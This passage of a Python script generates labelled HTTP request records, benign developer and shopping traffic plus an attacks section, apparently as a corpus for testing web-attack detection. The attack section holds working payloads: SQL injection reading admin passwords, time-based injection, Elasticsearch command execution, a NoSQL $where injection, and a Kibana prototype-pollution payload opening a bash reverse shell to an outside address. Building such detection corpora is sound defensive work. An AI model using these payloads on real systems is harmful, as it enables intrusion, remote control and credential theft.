        js({"title": "Apache rewrites", "markdown": "```apache\nRewriteEngine On\nRewriteCond %{HTTPS} off\nRewriteRule ^(.*)$ https://%{HTTP_HOST}/$1 [R=301,L]\nRewriteCond %{REQUEST_FILENAME} !-f\nRewriteRule ^ index.php [QSA,L]\n```"}),
        "application/json", browser=False)
    dev("api-docs-curl-example-024", "PATCH", "/api/docs/pages/auth", "docs.example.com",
        js({"content": "Get a token:\n\n    curl -X POST https://api.example.com/oauth2/token \\\n      -H 'Content-Type: application/x-www-form-urlencoded' \\\n      -d 'grant_type=client_credentials&client_id=$ID&client_secret=$SECRET' | jq -r .access_token"}),
        "application/json", browser=False)
    dev("regex-rule-editor-025", "POST", "/api/validation-rules", "forms.example.com",
        js({"field": "email", "pattern": "^[A-Za-z0-9._%+-]+@[A-Za-z0-9.-]+\\.[A-Za-z]{2,}$", "message": "Bitte gültige E-Mail eingeben"}),
        "application/json", browser=False)
    dev("bug-report-stacktrace-026", "POST", "/api/issues", "tracker.example.com",
        js({"title": "NPE on checkout", "description": "Steps: add item, click Pay.\n\n```\njava.lang.NullPointerException: Cannot invoke \"String.trim()\" because \"input\" is null\n\tat com.example.shop.CheckoutService.normalize(CheckoutService.java:88)\n\tat jdk.internal.reflect.GeneratedMethodAccessor42.invoke(Unknown Source)\n```\nURL was /checkout?step=pay&cart=8812"}),
        "application/json", extra=bx("tracker.example.com", "/issues/new"))
    dev("graphql-sdl-upload-027", "POST", "/api/schemas", "api-registry.example.com",
        js({"service": "orders", "sdl": "type Query {\n  order(id: ID!): Order\n  orders(filter: OrderFilter, first: Int = 20): [Order!]!\n}\ninput OrderFilter { status: [Status!], createdAfter: DateTime }\nenum Status { DRAFT PAID SHIPPED }"}),
        "application/json", browser=False)
    dev("xslt-config-upload-028", "POST", "/api/transforms", "esb.example.com",
        '<?xml version="1.0"?>\n<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">\n  <xsl:output method="xml" indent="yes"/>\n  <xsl:template match="/order">\n    <invoice id="{@id}"><xsl:value-of select="customer/name"/></invoice>\n  </xsl:template>\n</xsl:stylesheet>\n',
        "application/xslt+xml", browser=False)


@benign_section
def dev_misc():
    dev("lsp-didchange-jsonrpc-029", "POST", "/lsp", "ide.example.com",
        js({"jsonrpc": "2.0", "method": "textDocument/didChange", "params": {"textDocument": {"uri": "file:///workspace/app/db.py", "version": 7},
            "contentChanges": [{"text": "cur.execute(\"SELECT * FROM users WHERE id = %s\", (user_id,))\nrows = cur.fetchall()\n"}]}}),
        "application/json", browser=False)
    dev("docs-search-sql-query-030", "GET", "/search?q=%s&section=reference" % quote_plus("SELECT DISTINCT ON (user_id) * FROM events ORDER BY user_id, ts DESC"),
        "docs.example.com", extra=bx("docs.example.com", "/reference"))
    dev("docs-search-shell-031", "GET", "/search?q=%s" % quote_plus("find . -name '*.log' -exec rm {} \\;"), "docs.example.com",
        extra=bx("docs.example.com", "/"))
    dev("chat-message-code-032", "POST", "/api/chat.postMessage", "chat.example.com",
        js({"channel": "C0DEV", "text": "can someone check why `curl -s https://api.example.com/health | jq .status` returns null on staging? also `kubectl logs deploy/api --since=1h | grep -i error`"}),
        "application/json; charset=utf-8", browser=False, extra=[("Authorization", "Bearer xoxp-" + ralnum(30))])
    dev("graphql-var-snippet-033", "POST", "/graphql", "forum.example.com",
        js({"query": "mutation Post($input: PostInput!) { createPost(input: $input) { id } }",
            "variables": {"input": {"title": "Escaping in React", "body": "React escapes by default; `dangerouslySetInnerHTML={{__html: html}}` is the exception -- sanitize with DOMPurify first: `DOMPurify.sanitize('<img src=x onerror=alert(1)>')` returns `<img src=\"x\">`."}}}),
        "application/json", browser=False)
    ci_log = "\n".join(js({"ts": rts(), "job": "build", "line": l}) for l in [
        "$ npm ci", "added 1214 packages in 22s", "$ npm run build", "> vite build", "$ ./scripts/deploy.sh --env=staging && echo done",
        "+ rsync -az dist/ deploy@198.51.100.10:/srv/www/"]) + "\n"
    dev("ndjson-ci-log-shell-034", "POST", "/api/v1/jobs/%d/trace" % RNG.randint(1000, 99999), "ci.example.com", ci_log, "application/x-ndjson", browser=False)
    csv_q = "query_id,duration_ms,statement\r\n1,812,\"SELECT * FROM orders WHERE customer_id = 42 AND status <> 'cancelled'\"\r\n2,1430,\"UPDATE stock SET qty = qty - 1 WHERE sku = 'A-1'\"\r\n"
    bnd = boundary()
    dev("csv-slow-query-log-035", "POST", "/api/reports/upload", "dba.example.com",
        multipart([field("title", "slow queries week 23"), filepart("file", "slow.csv", "text/csv", csv_q)], bnd), "multipart/form-data; boundary=" + bnd,
        extra=bx("dba.example.com", "/reports"))
    dev("xml-in-json-html-email-036", "POST", "/api/campaigns", "mail.example.com",
        js({"name": "Newsletter Juni", "html": "<!DOCTYPE html><html><head><style>a{color:#0a7}</style></head><body><table role=\"presentation\"><tr><td><a href=\"https://www.example.com/?utm_source=nl\">Zum Shop</a></td></tr></table><img src=\"https://t.example.com/o.gif?c=%s\" width=\"1\" height=\"1\" alt=\"\"></body></html>" % rhex(12)}),
        "application/json", extra=bx("mail.example.com", "/campaigns/new"))
    dev("security-training-post-037", "POST", "/api/posts", "academy.example.com",
        js({"title": "Why parameterised queries matter", "html": "<p>String concatenation like <code>\"... WHERE name = '\" + name + \"'\"</code> breaks on names such as <em>O'Brien</em>. Use placeholders:</p><pre><code class=\"language-python\">cur.execute(\"SELECT * FROM users WHERE name = %s\", (name,))</code></pre>"}),
        "application/json", extra=bx("academy.example.com", "/editor"))
    dev("ps-script-b64-runbook-038", "POST", "/api/runbooks", "ops.example.com",
        js({"name": "Clear IIS temp", "type": "PowerShell", "scriptBase64": b64("Stop-Service W3SVC\nRemove-Item \"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\Temporary ASP.NET Files\\*\" -Recurse -Force\nStart-Service W3SVC\n")}),
        "application/json", browser=False)
    dev("makefile-snippet-form-039", "POST", "/snippets/new", "paste.example.com",
        urlencode({"lang": "make", "title": "Makefile", "code": "build:\n\tgo build -o bin/app ./cmd/app\n\ntest:\n\tgo test ./... | tee test.log\n\nclean:\n\trm -rf bin/ && find . -name '*.out' -delete\n"}),
        extra=bx("paste.example.com", "/snippets"))
    dev("latex-math-forum-040", "POST", "/api/answers", "math.example.org",
        js({"questionId": RNG.randint(1000, 9999), "body": "By induction: $\\sum_{k=1}^{n} k = \\frac{n(n+1)}{2}$. Then \\begin{align} f(x) &= \\int_0^x e^{-t^2}\\,dt \\end{align}"}),
        "application/json", extra=bx("math.example.org", "/q"))
    dev("jq-filter-saved-041", "POST", "/api/transforms", "etl.example.com",
        js({"name": "flatten", "jq": ".items[] | select(.price > 10 and (.tags | index(\"sale\"))) | {id, name, price: (.price * 100 | floor)}"}),
        "application/json", browser=False)
    dev("cypher-query-042", "POST", "/db/neo4j/tx/commit", "graph.example.com",
        js({"statements": [{"statement": "MATCH (u:User {id: $id})-[:FOLLOWS]->(f:User) RETURN f.name ORDER BY f.name LIMIT 25", "parameters": {"id": RNG.randint(1, 9999)}}]}),
        "application/json", browser=False)


# --- everyday traffic mixing the same containers
@benign_section
def ben_everyday():
    streets = ["12 Rue de l'Église", "Königsallee 12", "Calle de Alcalá 48", "1-2-3 Shibuya, Shibuya-ku", "ul. Marszałkowska 10/4", "221B Baker Street", "Rua Augusta 1500, apto 12"]
    for i in range(12):
        nm = RNG.choice(NAMES)
        body = urlencode({"billing[name]": nm, "billing[street]": RNG.choice(streets), "billing[zip]": str(RNG.randint(10000, 99999)),
                          "billing[country]": RNG.choice(["FR", "DE", "ES", "JP", "PL", "GB", "BR"]), "shipping_same": "1",
                          "notes": RNG.choice(TEXTS), "coupon": RNG.choice(["", "SUMMER-24", "WELCOME10"]), "_token": ralnum(40)})
        add("benign", "checkout-address-form-%03d" % (i + 1), "benign", "POST", "/checkout/address", "shop.example.net", body=body,
            extra=bx("shop.example.net", "/checkout/cart", "laravel_session=%s; %s" % (b64(rhex(40)), ga_cookie())))
    for i in range(8):
        idt = jwt({"iss": "https://auth.example.com", "sub": ruuid(), "aud": "webapp", "nonce": ralnum(22), "iat": repoch(), "exp": repoch() + 600,
                   "name": RNG.choice(NAMES), "email": "user%d@example.org" % RNG.randint(1, 999), "locale": RNG.choice(["de", "fr", "ja", "pt-BR"])},
                  "RS256", header_extra={"kid": ralnum(16)})
        add("benign", "oidc-form-post-id-token-%03d" % (i + 1), "benign", "POST", "/signin-oidc", "app.example.com",
            body=urlencode({"code": ralnum(43), "id_token": idt, "state": b64url(js({"r": "/dashboard", "n": rhex(8)})), "session_state": ruuid()}),
            extra=bx("auth.example.com", "/login", more=[("Origin", "https://auth.example.com")]))
    for i in range(8):
        qs = "filter[%s]=%s&include=%s&page[number]=%d&page[size]=%d&sort=%s&fields[articles]=title,body,created" % (
            RNG.choice(["author.name", "title", "category"]), q(RNG.choice(["O'Neil", "Über uns", "travel & food", "2024 review"])),
            RNG.choice(["author", "comments.author", "tags"]), RNG.randint(1, 9), RNG.choice([10, 25]), RNG.choice(["-created", "title"]))
        add("benign", "jsonapi-filter-query-%03d" % (i + 1), "benign", "GET", "/jsonapi/node/article?" + qs, "cms.example.com",
            accept="application/vnd.api+json", browser=False)
    for i in range(8):
        qs = urlencode({"q": RNG.choice(["O'Brien", "müller", "order 4411", "refund -partial", "a+b"]), "o": RNG.choice(["-1.2", "3", "-4"]),
                        "status__exact": RNG.choice(["paid", "open"]), "created__gte": "2024-0%d-01" % RNG.randint(1, 9), "p": str(RNG.randint(0, 5))})
        add("benign", "django-admin-changelist-%03d" % (i + 1), "benign", "GET", "/admin/orders/order/?" + qs, "admin.example.net",
            extra=bx("admin.example.net", "/admin/", "csrftoken=%s; sessionid=%s" % (ralnum(32), ralnum(32).lower())))
    for i in range(6):
        note = js({"notificationItems": [{"NotificationRequestItem": {"eventCode": "AUTHORISATION", "success": "true", "merchantReference": "ORD-%d" % RNG.randint(10000, 99999),
                                                                       "amount": {"value": RNG.randint(500, 90000), "currency": "EUR"}, "pspReference": ralnum(16).upper(),
                                                                       "additionalData": {"hmacSignature": b64(bytes(RNG.getrandbits(8) for _ in range(32))), "shopperName": RNG.choice(NAMES)}}}], "live": "true"})
        add("benign", "webhook-psp-notification-%03d" % (i + 1), "benign", "POST", "/webhooks/psp", "shop.example.net", body=note, ctype="application/json",
            ua="Adyen HttpClient 1.0")
    for i in range(8):
        state = {"v": 3, "layers": RNG.sample(["roads", "transit", "bike", "terrain", "labels"], 3), "center": [round(RNG.uniform(-50, 60), 4), round(RNG.uniform(-120, 140), 4)],
                 "zoom": RNG.randint(3, 17), "title": RNG.choice(["Wanderung Säntis", "Tokyo food tour 🍜", "Route 66", "Camino de Santiago"])}
        comp = zlib.compress(js(state).encode(), 9)
        add("benign", "share-link-compressed-state-%03d" % (i + 1), "benign", "GET", "/map/share?s=%s" % b64url(comp), "maps.example.org",
            extra=bx("maps.example.org", "/map"))
    for i in range(6):
        body = js({"jsonrpc": "2.0", "id": ruuid(), "method": "tools/call", "params": {"name": RNG.choice(["search_docs", "get_weather", "create_ticket"]),
                   "arguments": {"query": RNG.choice(["wie kündige ich mein Abo?", "refund policy for EU", "Wetter in Kraków morgen"]), "limit": 5}}})
        add("benign", "mcp-jsonrpc-tools-call-%03d" % (i + 1), "benign", "POST", "/mcp", "agents.example.com", body=body, ctype="application/json",
            browser=False, extra=[("Mcp-Session-Id", rhex(32)), ("Accept", "application/json, text/event-stream")])
    for i in range(6):
        add("benign", "image-proxy-encoded-url-%03d" % (i + 1), "benign", "GET",
            "/_next/image?url=%s&w=%d&q=75" % (q("https://cdn.example.com/uploads/2024/%02d/%s.jpg" % (RNG.randint(1, 12), ralnum(10))), RNG.choice([640, 828, 1080, 1920])),
            "www.example.com", accept="image/avif,image/webp,image/apng,image/svg+xml,image/*,*/*;q=0.8", extra=bx("www.example.com", "/blog"))


# --- attacks in the CMS / search client filter syntaxes used by the benign traffic
@attack_section
def atk_filter_syntaxes():
    add("attacks", "strapi-bracket-filter-sqli-001", "sqli", "GET",
        "/api/articles?filters[title][$eq]=%s&populate=*" % q("x' OR 1=1 UNION SELECT email,password FROM admin_users--"), "cms.example.com", browser=False)
    add("attacks", "directus-json-filter-sqli-002", "sqli", "GET",
        "/items/posts?filter=%s&limit=25" % q(js({"title": {"_eq": "a') OR (SELECT 1 FROM pg_sleep(6))::text=('1"}})), "cms.example.com", browser=False)
    add("attacks", "es-source-param-script-003", "java", "GET",
        "/products/_search?source=%s&source_content_type=application/json" % q(js({"size": 1, "script_fields": {"x": {"script": "java.lang.Math.class.forName(\"java.lang.Runtime\").getRuntime().exec(\"id\").getText()"}}})),
        "search.example.com")
    add("attacks", "kibana-timelion-proto-rce-004", "generic", "POST", "/api/timelion/run", "kibana.example.com",
        body=js({"sheet": [".es(*).props(label.__proto__.env.AAAA='require(\"child_process\").exec(\"bash -c \\'bash -i >& /dev/tcp/203.0.113.50/443 0>&1\\'\");process.exit()//')\n.props(label.__proto__.env.NODE_OPTIONS='--require /proc/self/environ')"],
                    "time": {"from": "now-15m", "to": "now", "interval": "auto"}}),
        ctype="application/json", extra=[("kbn-xsrf", "true"), ("kbn-version", "6.5.4")])
    add("attacks", "parse-where-js-nosql-005", "nosqli", "GET",
        "/parse/classes/_User?where=%s" % q(js({"$where": "this.password.length > 0 && sleep(2000)"})), "api.example.com",
        browser=False, extra=[("X-Parse-Application-Id", rhex(20))])




def gen_attacks():
    for f in ATTACK_SECTIONS:
        f()


def gen_benign():
    for f in BENIGN_SECTIONS:
        f()


def main():
    if len(sys.argv) != 2 or sys.argv[1] not in ("attacks", "benign"):
        sys.stderr.write("usage: corpus-wrapped.py attacks|benign\n")
        sys.exit(2)
    if sys.argv[1] == "attacks":
        gen_attacks()
    else:
        gen_benign()
    for rec in OUT:
        sys.stdout.write(json.dumps(rec, ensure_ascii=False) + "\n")


if __name__ == "__main__":
    main()
